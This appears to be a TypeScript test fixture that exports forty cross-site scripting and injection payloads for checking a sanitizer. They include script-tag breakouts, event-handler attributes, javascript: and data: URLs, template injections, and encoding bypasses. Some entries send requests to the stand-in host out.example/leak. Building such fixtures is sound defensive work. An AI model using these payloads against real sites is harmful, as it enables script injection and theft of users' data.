/** Forty ways to turn a name into a script, a request or a navigation. `PROOF` is what runs when one of them works. */
const PROOF = 'globalThis.hostileRan=true';
const OUT = 'https://out.example/leak';

export const hostileStrings: readonly string[] = [
  `<script>${PROOF}</script>`, `"><script>${PROOF}</script>`, `'><script>${PROOF}</script>`, `</title><script>${PROOF}</script>`, `</textarea><script>${PROOF}</script>`,
  `<img src=x onerror="${PROOF}">`, `<img src=x onerror=${PROOF}//`, `<svg onload="${PROOF}">`, `<svg><script>${PROOF}</script></svg>`, `<svg><animate onbegin="${PROOF}" attributeName=x dur=1s>`,
  `<body onload="${PROOF}">`, `<iframe srcdoc="<script>parent.${PROOF}</script>">`, `<iframe src="javascript:parent.${PROOF}">`, `<object data="javascript:${PROOF}">`, `<embed src="javascript:${PROOF}">`,
  `<a href="javascript:${PROOF}" autofocus onfocus="${PROOF}">x</a>`, `<input autofocus onfocus="${PROOF}">`, `<details open ontoggle="${PROOF}">x</details>`, `<video><source onerror="${PROOF}"></video>`, `<audio src=x onerror="${PROOF}">`,
  `<math><mtext></p><img src=x onerror="${PROOF}"></math>`, `<template><script>${PROOF}</script></template>`, `<base href="${OUT}/">`, `<link rel=stylesheet href="${OUT}.css">`, `<meta http-equiv=refresh content="0;url=${OUT}">`,
  `<form action="${OUT}"><button autofocus>x</button></form>`, `<img src="${OUT}.png">`, `<style>@import '${OUT}.css';</style>`, `<style>*{background:url(${OUT})}</style>`, `<x style="background:url(${OUT})">x</x>`,
  `javascript:${PROOF}`, `data:text/html,<script>${PROOF}</script>`, `{{constructor.constructor('${PROOF}')()}}`, `\${${PROOF}}`, `[x](javascript:${PROOF})`,
  `![x](${OUT}.png)`, `<!--><script>${PROOF}</script>-->`, `\u003cscript\u003e${PROOF}\u003c/script\u003e`, `<scr\0ipt>${PROOF}</scr\0ipt>`, `" onmouseover="${PROOF}" x="`,
];
